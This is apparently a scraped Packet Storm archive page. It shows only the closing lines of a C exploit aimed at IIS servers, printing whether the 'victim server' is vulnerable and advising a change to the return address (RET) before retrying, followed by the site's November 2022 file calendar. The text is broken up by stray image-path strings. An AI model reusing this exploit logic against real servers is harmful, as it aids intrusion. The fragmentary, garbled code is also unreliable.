// This code is not bullet-proof. An evil WWW server could return a response bigger than MAXBUF// and an overflow would occur here. Yes, I'm lazy... :-)

buffer[rt] = '\0';

if (rt > 0)
printf("[*] Victim server issued the following %d bytes of response:\n--\n%s\n--\n[*] Server NOT vulnerable!\n", rt, buffer);
printf("[*] Server is vulnerable but the exploit failed! Change RET value (e.g. 0xce04) and try again (when IIS is up again) :-/\n", bport);


Login or Register to add favorites

File Archive:

November 2022

  • Su
  • Mo
  • Tu
  • We
  • Th
  • Fr
  • Sa
  • 1
    Nov 1st
    16 Files• 2
    Nov 2nd
    17 Files
  • 3
    Nov 3rd
    17 Files
  • 4
    Nov 4th
    11 Files
  • 5
    Nov 5th
    0 Files
  • 6
    Nov 6th
    0 Files
  • 7
    Nov 7th
    3 Files
  • 8
    Nov 8th
    59 Files• 9
    Nov 9th
    12 Files
  • 10
    Nov 10th
    6 Files
  • 11
    Nov 11th
    11 Files
  • 12
    Nov 12th
    1 Files
  • 13
    Nov 13th
    0 Files
  • 14
    Nov 14th
    9 Files
  • 15
    Nov 15th
    33 Files
  • 16
    Nov 16th
    53 Files
  • 17
    Nov 17th
    11 Files
  • 18
    Nov 18th
    14 Files
  • 19
    Nov 19th
    0 Files
  • 20
    Nov 20th
    0 Files
  • 21
    Nov 21st
    26 Files• 22
    Nov 22nd
    22 Files
  • 23
    Nov 23rd
    10 Files
  • 24
    Nov 24th
    9 Files
  • 25
    Nov 25th11 Files
  • 26
    Nov 26th
    0 Files
  • 27
    Nov 27th
    0 Files
  • 28
    Nov 28th
    0 Files
  • 29
    Nov 29th
    0 Files
  • 30
    Nov 30th
    0 Files

Top Authors In Last 30 DaysFile Tags


packet storm

© 2022 Packet Storm. All rightsreserved.

Hosting By